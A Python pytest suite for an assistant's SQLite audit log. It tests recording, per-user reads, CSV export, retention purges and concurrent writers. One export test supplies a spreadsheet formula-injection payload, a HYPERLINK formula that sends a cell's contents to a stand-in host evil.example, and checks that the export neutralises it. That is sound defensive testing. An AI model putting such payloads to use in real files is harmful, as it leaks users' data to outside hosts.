"""Audit log: records, reading back, CSV export, retention purge, concurrent writers."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import stat
import threading
from pathlib import Path

import pytest

from assistant import audit as audit_mod
from assistant.audit import AuditLog
from assistant.chunks import Chunk
from assistant.citations import CheckedAnswer, Citation
from assistant.service import Answer
from assistant.settings import load_settings

DAY = 86400.0


class Clock:
    def __init__(self, t: float = 1_750_000_000.0) -> None:
        self.t = t

    def __call__(self) -> float:
        return self.t


@pytest.fixture
def settings(tmp_path: Path):
    return load_settings(app={"data_dir": tmp_path / "data", "audit_retention_days": 30})


def _rec(log: AuditLog, user: str = "anna", question: str = "Hoeveel procent gebruikt AI?") -> int:
    return log.record(
        user,
        question,
        question,
        ["a:1:0", "b:2:1"],
        ["a:1:0"],
        "26% gebruikt AI [1].",
        "answer",
        {"total_s": 1.23456, "retrieve_s": 0.1},
    )


def test_record_and_read_back(settings) -> None:
    log = AuditLog(settings)
    assert log.count() == 0
    rid = _rec(log)
    assert rid > 0 and log.count() == 1
    (rec,) = log.recent()
    assert rec["user"] == "anna"
    assert rec["question"] == "Hoeveel procent gebruikt AI?"
    assert rec["passages_retrieved"] == ["a:1:0", "b:2:1"]
    assert rec["passages_shown"] == ["a:1:0"]
    assert rec["mode"] == "answer"
    assert rec["timings"] == {"total_s": 1.235, "retrieve_s": 0.1}
    assert rec["time"].endswith("+00:00")


def test_file_location_wal_and_owner_only(settings) -> None:
    AuditLog(settings)
    path = settings.app.data_dir / "audit.sqlite3"
    assert path.is_file()
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    con = sqlite3.connect(path)
    assert con.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    con.close()


def test_recent_is_newest_first_limited_and_per_user(settings) -> None:
    clock = Clock()
    log = AuditLog(settings, clock=clock)
    for i in range(5):
        clock.t += 1
        _rec(log, user="anna" if i % 2 == 0 else "bert", question=f"vraag {i}")
    assert [r["question"] for r in log.recent(3)] == ["vraag 4", "vraag 3", "vraag 2"]
    assert [r["question"] for r in log.recent(user="bert")] == ["vraag 3", "vraag 1"]


def test_export_csv_to_path_and_buffer_neutralises_formulas(settings, tmp_path: Path) -> None:
    log = AuditLog(settings)
    _rec(log, question="Wat zegt het rapport over één ding?")
    _rec(log, question='=HYPERLINK("http://evil.example/?"&A1,"klik")')
    out = tmp_path / "export.csv"
    assert log.export_csv(out) == 2
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows[0][:4] == ["id", "tijd", "gebruiker", "vraag"]
    assert rows[1][3] == "Wat zegt het rapport over één ding?"
    assert rows[2][3].startswith("'=HYPERLINK")  # not a live formula in Excel
    buf = io.StringIO()
    assert log.export_csv(buf) == 2
    assert buf.getvalue() == log.export_csv_text()


def test_purge_removes_only_old_records(settings, monkeypatch) -> None:
    monkeypatch.setattr(audit_mod, "PURGE_INTERVAL_S", 10 * 365 * DAY)  # manual purge only
    clock = Clock()
    log = AuditLog(settings, clock=clock)
    _rec(log, question="oud")
    clock.t += 31 * DAY
    _rec(log, question="nieuw")
    assert log.count() == 2
    assert log.purge(30) == 1
    assert [r["question"] for r in log.recent()] == ["nieuw"]
    assert log.purge(30) == 0


def test_record_purges_automatically_at_most_once_an_hour(settings, monkeypatch) -> None:
    clock = Clock()
    log = AuditLog(settings, clock=clock)
    calls: list[int] = []
    original = log.purge
    monkeypatch.setattr(
        log, "purge", lambda days, now=None: calls.append(days) or original(days, now=now)
    )
    _rec(log, question="oud")  # first record: purge runs
    clock.t += 60
    _rec(log)  # within the hour: no purge
    assert calls == [30]
    clock.t += 31 * DAY  # "oud" and the second one are now beyond 30 days
    _rec(log, question="nieuw")
    assert calls == [30, 30]
    assert [r["question"] for r in log.recent()] == ["nieuw"]


def test_concurrent_writers_from_threads(settings) -> None:
    log = AuditLog(settings)
    errors: list[BaseException] = []

    def worker(n: int) -> None:
        try:
            for i in range(20):
                _rec(log, user=f"u{n}", question=f"vraag {n}-{i}")
                log.recent(5)
        except BaseException as exc:  # noqa: BLE001 - report anything from the thread
            errors.append(exc)

    threads = [threading.Thread(target=worker, args=(n,)) for n in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    assert log.count() == 160


def test_record_answer_takes_fields_from_an_answer(settings) -> None:
    c1 = Chunk(id="doc:1:0", text="26% gebruikt AI.", source="doc.txt", page=1, index=0)
    c2 = Chunk(id="doc:2:0", text="Iets anders.", source="doc.txt", page=2, index=0)
    checked = CheckedAnswer(
        text="26% gebruikt AI [1].",
        sentences=(),
        citations=(Citation(n=1, chunk=c1, quote="26% gebruikt AI."),),
        mode="answer",
        supported_rate=1.0,
    )
    ans = Answer(
        question="AI?",
        query="AI?",
        text=checked.text,
        mode="answer",
        checked=checked,
        passages=[c1, c2],
        timings={"total_s": 2.0},
    )
    log = AuditLog(settings)
    log.record_answer("anna", ans)
    (rec,) = log.recent()
    assert rec["passages_retrieved"] == ["doc:1:0", "doc:2:0"]
    assert rec["passages_shown"] == ["doc:1:0"]
    assert rec["answer"] == "26% gebruikt AI [1]."


def test_safe_record_never_raises(settings, monkeypatch, caplog) -> None:
    log = AuditLog(settings)

    def broken(*a, **k):
        raise sqlite3.OperationalError("database or disk is full")

    monkeypatch.setattr(log, "record", broken)
    ans = Answer(question="q", query="q", text="t", mode="refusal", checked=None, passages=[])
    assert log.safe_record_answer("anna", ans) is None
    assert "audit record failed" in caplog.text


def test_accepts_app_settings_and_creates_private_folder(tmp_path: Path) -> None:
    s = load_settings(app={"data_dir": tmp_path / "nieuw"})
    AuditLog(s.app)
    assert stat.S_IMODE(os.stat(tmp_path / "nieuw").st_mode) == 0o700
    assert audit_mod.FILENAME == "audit.sqlite3"
